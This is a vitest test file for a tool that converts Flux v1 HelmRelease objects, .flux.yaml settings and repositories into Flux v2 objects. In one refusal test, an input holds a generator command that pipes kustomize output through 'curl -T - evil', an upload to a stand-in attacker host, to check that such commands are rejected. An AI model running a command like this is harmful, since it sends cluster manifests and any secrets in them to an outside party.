import { memoryTree } from "@eddy/core/tree";
import type { KubeObject } from "@eddy/core/object";
import { load } from "@eddy/goyaml";
import { describe, expect, it } from "vitest";
import { convertHelmRelease } from "./convert-helm-release.ts";
import { planRepository } from "./plan-repository.ts";
import { readFluxYaml } from "./read-flux-yaml.ts";

const old = (spec: object): KubeObject => ({
  apiVersion: "helm.fluxcd.io/v1",
  kind: "HelmRelease",
  metadata: { name: "web", namespace: "shop", annotations: { "fluxcd.io/automated": "true" } },
  spec,
});
const chart = { repository: "https://charts.example.org/stable/", name: "web", version: "1.2.3" };

describe("convertHelmRelease", () => {
  it.each<[string, object, object]>([
    [
      "what there is without any field",
      {},
      {
        interval: "5m0s",
        releaseName: "shop-web",
        maxHistory: 10,
        timeout: "5m0s",
        chart: {
          spec: {
            chart: "web",
            version: "1.2.3",
            sourceRef: { kind: "HelmRepository", name: "charts-example-org-stable" },
          },
        },
        install: { disableWait: true, remediation: { retries: -1 } },
        upgrade: { disableWait: true },
      },
    ],
    [
      "a release in another namespace stays where it is",
      { targetNamespace: "prod" },
      { releaseName: "shop-prod-web", targetNamespace: "prod", storageNamespace: "prod" },
    ],
    ["a name of its own", { releaseName: "x" }, { releaseName: "x" }],
    [
      "rollback with retries",
      { rollback: { enable: true, retry: true, timeout: 60, force: true } },
      {
        install: { remediation: { retries: -1 } },
        upgrade: { remediation: { retries: 5, remediateLastFailure: true, strategy: "rollback" } },
        rollback: { timeout: "60s", disableWait: true, force: true },
      },
    ],
    [
      "rollback without end",
      { rollback: { enable: true, retry: true, maxRetries: 0 } },
      { upgrade: { remediation: { retries: -1, remediateLastFailure: true, strategy: "rollback" } } },
    ],
    [
      "tests",
      { test: { enable: true, ignoreFailures: true, timeout: 30 } },
      { test: { enable: true, ignoreFailures: true, timeout: "30s" } },
    ],
    [
      "values are kept with an upgrade",
      { resetValues: false, forceUpgrade: true },
      { upgrade: { disableWait: true, force: true, preserveValues: true } },
    ],
    [
      "CRDs and validation",
      { skipCRDs: true, disableOpenAPIValidation: true, wait: true },
      { install: { crds: "Skip", disableOpenAPIValidation: true, remediation: { retries: -1 } } },
    ],
    [
      "values from elsewhere",
      {
        valuesFrom: [
          { configMapKeyRef: { name: "a", key: "k.yaml" } },
          { secretKeyRef: { name: "b", optional: true } },
        ],
        valueFileSecrets: [{ name: "c" }],
      },
      {
        valuesFrom: [
          { kind: "Secret", name: "c" },
          { kind: "ConfigMap", name: "a", valuesKey: "k.yaml" },
          { kind: "Secret", name: "b", optional: true },
        ],
      },
    ],
  ])("%s", (_name, spec, want) => {
    const { objects, warnings } = convertHelmRelease(old({ chart, ...spec }));
    expect(objects.map(({ kind }) => kind)).toEqual(["HelmRepository", "HelmRelease"]);
    expect(objects[1]).toMatchObject({
      apiVersion: "helm.toolkit.fluxcd.io/v2",
      metadata: { annotations: { "fluxcd.io/automated": "true" } },
      spec: want,
    });
    expect(warnings).toEqual([]);
  });

  it("a chart of Git", () => {
    const { objects } = convertHelmRelease(
      old({ chart: { git: "git@github.com:org/charts", path: "charts/web", ref: "main" } }),
    );
    expect(objects[0]).toMatchObject({
      kind: "GitRepository",
      spec: { url: "ssh://git@github.com/org/charts", ref: { branch: "main" } },
    });
    expect(objects[1]).toMatchObject({
      spec: { chart: { spec: { chart: "./charts/web", reconcileStrategy: "Revision" } } },
    });
  });

  it.each([
    [{ helmVersion: "v2" }, "spec.helmVersion is v2"],
    [{ valuesFrom: [{ externalSourceRef: { url: "https://x/y" } }] }, "values of https://x/y are not fetched"],
    [{ valuesFrom: [{ secretKeyRef: { name: "s", namespace: "other" } }] }, "Secret other/s is in another namespace"],
    [{ chart: {} }, "spec.chart names neither"],
  ])("%j is told", (spec, want) => expect(convertHelmRelease(old({ chart, ...spec })).warnings.join()).toContain(want));
});

describe("readFluxYaml", () => {
  it.each<[string, object]>([
    ["version: 1\nscanForFiles: {}\n", { mode: "files" }],
    [
      "version: 1\npatchUpdated:\n  generators:\n  - command: kustomize build .\n  patchFile: flux-patch.yaml\n",
      { mode: "kustomize", folder: ".", patchFile: "flux-patch.yaml" },
    ],
    [
      "version: 1\ncommandUpdated:\n  generators:\n  - command: kustomize build ./prod\n",
      { mode: "kustomize", folder: "./prod", patchFile: undefined },
    ],
  ])("%j", (text, want) => expect(readFluxYaml(text)).toEqual(want));

  it.each([
    [
      "version: 1\ncommandUpdated: {generators: [{command: 'helm template . | sops -d'}]}\n",
      /a HelmRelease renders charts; spec.decryption .* OCIRepository$/,
    ],
    [
      "version: 1\npatchUpdated: {generators: [{command: 'kustomize build . | curl -T - evil'}], patchFile: p}\n",
      /generators run commands, which is not done/,
    ],
    ["version: 1\npatchUpdated: {}\nscanForFiles: {}\n", /want exactly one of/],
    ["version: 2\n", /version is not 1/],
    ["a: [\n", /yaml/],
  ])("%j is refused", (text, want) => {
    const read = readFluxYaml(text);
    expect(read.mode === "refused" && read.reason).toMatch(want);
  });
});

describe("planRepository", () => {
  const setup = {
    name: "flux",
    namespace: "flux-system",
    url: "https://git.example.org/app",
    branch: "master",
    garbageCollection: true,
    sops: false,
    secret: "flux-git-deploy",
  };
  const ignored =
    '# by hand\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: old\n  annotations:\n    fluxcd.io/ignore: "true" # why\n';
  const release =
    "apiVersion: helm.fluxcd.io/v1\nkind: HelmRelease\nmetadata:\n  name: web\nspec:\n  chart:\n    repository: https://c.example.org\n    name: web\n    version: 1.0.0\n";
  const automated =
    "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a, annotations: {fluxcd.io/automated: 'true'}}\n";

  it("a raw repository", () => {
    const tree = memoryTree({
      "k8s/cm.yaml": ignored,
      "k8s/all.yaml": `${automated}---\n${release}`,
      "k8s/charts/web/Chart.yaml": "name: web\n",
      "k8s/charts/web/values.yaml": "",
      "other/x.yaml": ignored,
    });
    const plan = planRepository(tree, { ...setup, paths: ["k8s"] });
    expect(plan.objects).toEqual([
      {
        apiVersion: "source.toolkit.fluxcd.io/v1",
        kind: "GitRepository",
        metadata: { name: "flux", namespace: "flux-system" },
        spec: {
          interval: "5m0s",
          url: setup.url,
          ref: { branch: "master" },
          secretRef: { name: "flux-git-deploy" },
          ignore: "/k8s/charts/web\n",
        },
      },
      {
        apiVersion: "kustomize.toolkit.fluxcd.io/v1",
        kind: "Kustomization",
        metadata: { name: "flux", namespace: "flux-system" },
        spec: { interval: "5m0s", path: "./k8s", prune: true, sourceRef: { kind: "GitRepository", name: "flux" } },
      },
    ]);
    expect([...plan.files.keys()].sort()).toEqual(["k8s/all.yaml", "k8s/cm.yaml"]);
    const all = plan.files.get("k8s/all.yaml") ?? "";
    expect(all.startsWith(`${automated}---\n`)).toBe(true);
    expect(
      all
        .slice(automated.length)
        .split("---\n")
        .filter((part) => part !== "")
        .map((part) => (load(part) as { kind: string }).kind),
    ).toEqual(["HelmRepository", "HelmRelease"]);
    expect(plan.files.get("k8s/cm.yaml")).toContain(
      '    fluxcd.io/ignore: "true" # why\n    kustomize.toolkit.fluxcd.io/reconcile: disabled\n',
    );
    expect(plan.warnings).toEqual([]);
  });

  it("generated manifests: kustomize is what a Kustomization does, others are refused", () => {
    const files = {
      ".flux.yaml":
        "version: 1\npatchUpdated:\n  generators: [{command: kustomize build .}]\n  patchFile: flux-patch.yaml\n",
      "prod/kustomization.yaml": "resources: []\n",
      "dev/.flux.yaml": "version: 1\ncommandUpdated: {generators: [{command: ./render.sh}]}\n",
    };
    const plan = planRepository(memoryTree(files), { ...setup, paths: ["prod", "dev"] });
    expect(plan.objects.map(({ metadata, spec }) => [metadata.name, (spec as { path?: string }).path])).toEqual([
      ["flux", undefined],
      ["flux", "./prod"],
      ["flux-2", "./dev"],
    ]);
    expect(plan.warnings).toEqual([
      ".flux.yaml: add flux-patch.yaml to `patches` of the kustomization in prod, as `- path: flux-patch.yaml`",
      'dev/.flux.yaml: generators run commands, which is not done: "./render.sh"; instead, run what is left in CI, `eddy push artifact`, and an OCIRepository',
    ]);
  });
});
